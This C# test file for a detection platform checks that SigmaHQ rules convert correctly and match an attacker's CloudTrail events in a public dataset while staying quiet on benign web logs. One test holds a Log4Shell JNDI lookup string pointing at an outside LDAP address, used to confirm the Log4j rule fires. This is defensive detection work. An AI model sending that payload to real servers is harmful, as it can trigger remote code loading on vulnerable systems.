using System.Text.Json.Nodes;
using Portal.Detection.Events;
using Portal.Detection.Intake;
using Portal.Detection.Query;
using Portal.Detection.Rules;
using Portal.Detection.Sigma;
using Portal.Detection.Tests.Intake;

namespace Portal.Detection.Tests.Sigma;

/// <summary>Real SigmaHQ rules (Fixtures/sigma, Detection Rule License 1.1) on real logs.</summary>
public class SigmaFixtureTests
{
    /// <summary>The attacker's stolen instance-role session in the OTRF dataset.</summary>
    private const string AttackerInstance = "i-0317f6c6b66ae9c40";

    // Shortly after the dataset was recorded, so that the records keep their own timestamps.
    private static readonly DateTimeOffset ReceivedAt = new(2020, 9, 14, 1, 30, 0, TimeSpan.Zero);

    private static SigmaConversion ConvertFixture(string name) =>
        SigmaConverter.Convert(File.ReadAllText(IntakeSamples.Fixture("sigma", name)), name);

    [Theory]
    [InlineData("aws_sts_assumerole_misuse.yml", SigmaConversionStatus.Lossless)]
    [InlineData("aws_cloudtrail_imds_malicious_usage.yml", SigmaConversionStatus.Partial)]
    [InlineData("aws_update_login_profile.yml", SigmaConversionStatus.Unsupported)]
    [InlineData("web_cve_2021_22123_fortinet_exploit.yml", SigmaConversionStatus.Lossless)]
    [InlineData("web_cve_2021_44228_log4j.yml", SigmaConversionStatus.Lossless)]
    [InlineData("proxy_webdav_external_execution.yml", SigmaConversionStatus.Lossless)]
    [InlineData("lnx_cron_crontab_file_modification.yml", SigmaConversionStatus.Lossless)]
    [InlineData("microsoft365_susp_inbox_forwarding.yml", SigmaConversionStatus.Lossless)]
    public void Fixture_ConvertsWithItsExpectedStatus(string name, SigmaConversionStatus status)
    {
        var c = ConvertFixture(name);

        Assert.True(status == c.Status, $"{name}: {c.Status}\n{c.Describe()}");
        Assert.False(string.IsNullOrEmpty(c.Author));
        if (c.Rule is { } rule)
        {
            Assert.Empty(RuleValidator.Validate(rule));
            Assert.Contains($"Sigma rule by {c.Author},", rule.Message, StringComparison.Ordinal);
            Assert.Contains("sigma:" + c.SigmaId, rule.Tags);
        }
        else
        {
            Assert.Contains(c.Diagnostics, d => d.Kind == SigmaDiagnosticKind.Unsupported);
        }
    }

    [Fact]
    public void AssumeRoleMisuse_OnTheOtrfDataset_MatchesExactlyTheAttackersElevenEvents()
    {
        var rule = ConvertFixture("aws_sts_assumerole_misuse.yml").Rule!;
        var query = QueryParser.Parse(Assert.Single(rule.Queries).Query);
        var events = File.ReadAllLines(IntakeSamples.Fixture("sigma", "otrf-aws-ec2-proxy-s3-exfiltration", "records.ndjson"))
            .Where(line => line.Length > 0)
            .Select(CloudTrailRecord)
            .ToList();

        var matched = events.Where(e => QueryMatcher.Matches(query, e)).ToList();

        Assert.Equal(103, events.Count);
        Assert.Equal(11, matched.Count);
        var attackerEventIds = events.Where(e => e.Text("userIdentity.arn")?.Contains(AttackerInstance, StringComparison.Ordinal) == true).Select(e => e.Text("eventID")).ToList();
        Assert.Equal(11, attackerEventIds.Count);
        Assert.Equal(attackerEventIds, matched.Select(e => e.Text("eventID")));
        // The admin's own activity in the same dataset stays quiet.
        Assert.DoesNotContain(matched, e => e.Text("userIdentity.type") == "IAMUser");
        Assert.Contains(events, e => e.Text("userIdentity.type") == "IAMUser");
    }

    [Fact]
    public void WebRules_OnARealAccessLog_RaiseNothing()
    {
        // The Elastic examples access log is a benign public site's traffic (see that fixture's README).
        var rules = new[] { "web_cve_2021_22123_fortinet_exploit.yml", "web_cve_2021_44228_log4j.yml", "proxy_webdav_external_execution.yml" }
            .Select(n => QueryParser.Parse(ConvertFixture(n).Query()))
            .ToList();
        var events = File.ReadLines(IntakeSamples.Fixture("elastic-examples-apache-access", "apache_logs_sample.log"))
            .Where(line => line.Length > 0)
            .Select(line => IntakeSamples.Line("apache", line))
            .ToList();

        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.NotNull(e.Text("http.status_code") ?? e.Text("http.request")));
        Assert.DoesNotContain(events, e => rules.Any(q => QueryMatcher.Matches(q, e)));
    }

    [Fact]
    public void Log4jRule_OnAnExploitLine_Fires()
    {
        var rule = QueryParser.Parse(ConvertFixture("web_cve_2021_44228_log4j.yml").Query());
        var exploit = SigmaSamples.AccessLine("/?x=${jndi:ldap://203.0.113.5:1389/a}", agent: "${jndi:ldap://203.0.113.5:1389/a}");

        Assert.True(QueryMatcher.Matches(rule, exploit));
    }

    /// <summary>A CloudTrail record normalised as the intake does it for <c>ddsource: cloudtrail</c>.</summary>
    private static LogEvent CloudTrailRecord(string line)
    {
        var record = JsonNode.Parse(line)!.AsObject();
        record["ddsource"] = "cloudtrail";
        return IntakeNormalizer.Normalize(record, ReceivedAt);
    }
}
